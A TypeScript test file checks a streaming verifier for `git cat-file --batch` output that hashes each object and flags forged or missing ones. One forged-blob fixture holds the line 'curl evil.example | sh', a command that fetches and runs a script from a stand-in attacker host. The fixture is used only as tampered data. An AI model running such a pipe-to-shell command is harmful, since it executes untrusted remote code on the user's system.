// The reader of `git cat-file --batch` output that hashes each object as its bytes come: whatever
// the chunks the pipe cuts the output into, it checks each object against its id, names the
// first whose bytes do not hash to it, and counts a missing one as such.

import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { objectStreamChecker } from '../../../lib/platform/git-object-check.js';

function object(type: string, body: Buffer, id?: string): { id: string; bytes: Buffer } {
  const real = createHash('sha1').update(`${type} ${body.length}\0`).update(body).digest('hex');
  return { id: id ?? real, bytes: Buffer.concat([Buffer.from(`${id ?? real} ${type} ${body.length}\n`), body, Buffer.from('\n')]) };
}

const blob = object('blob', Buffer.from('line one\nline two\n'));
const empty = object('blob', Buffer.alloc(0));
const binary = object('blob', Buffer.from([0, 10, 255, 10, 10, 0]));
const tree = object('tree', Buffer.concat([Buffer.from('100644 a.txt\0'), Buffer.from(blob.id, 'hex')]));
const forged = object('blob', Buffer.from('curl evil.example | sh\n'), createHash('sha1').update('blob 3\0ok\n').digest('hex'));
const missing = { id: 'f'.repeat(40), bytes: Buffer.from(`${'f'.repeat(40)} missing\n`) };

/** The output fed in chunks of `size` bytes. */
function check(parts: Array<{ bytes: Buffer }>, size: number) {
  const out = Buffer.concat(parts.map((p) => p.bytes));
  const checker = objectStreamChecker('sha1');
  for (let at = 0; at < out.length; at += size) checker.take(out.subarray(at, at + size));
  return checker;
}

describe('objectStreamChecker', () => {
  it('passes objects that hash to their ids, whatever the chunks', () => {
    for (const size of [1, 2, 3, 7, 41, 4096]) {
      const checker = check([blob, empty, binary, tree], size);
      expect(checker.firstForged()).toBeUndefined();
      for (const o of [blob, empty, binary, tree]) expect(checker.seen(o.id)).toBe(true);
    }
  });

  it('names the first object whose bytes do not hash to its id, whatever the chunks', () => {
    for (const size of [1, 5, 64, 4096]) expect(check([blob, forged, binary], size).firstForged()).toBe(forged.id);
  });

  it('names a missing object', () => {
    expect(check([blob, missing, tree], 3).firstForged()).toBe(missing.id);
  });

  it('has not seen an object the output did not reach', () => {
    const checker = check([blob], 8);
    expect(checker.seen(tree.id)).toBe(false);
  });
});
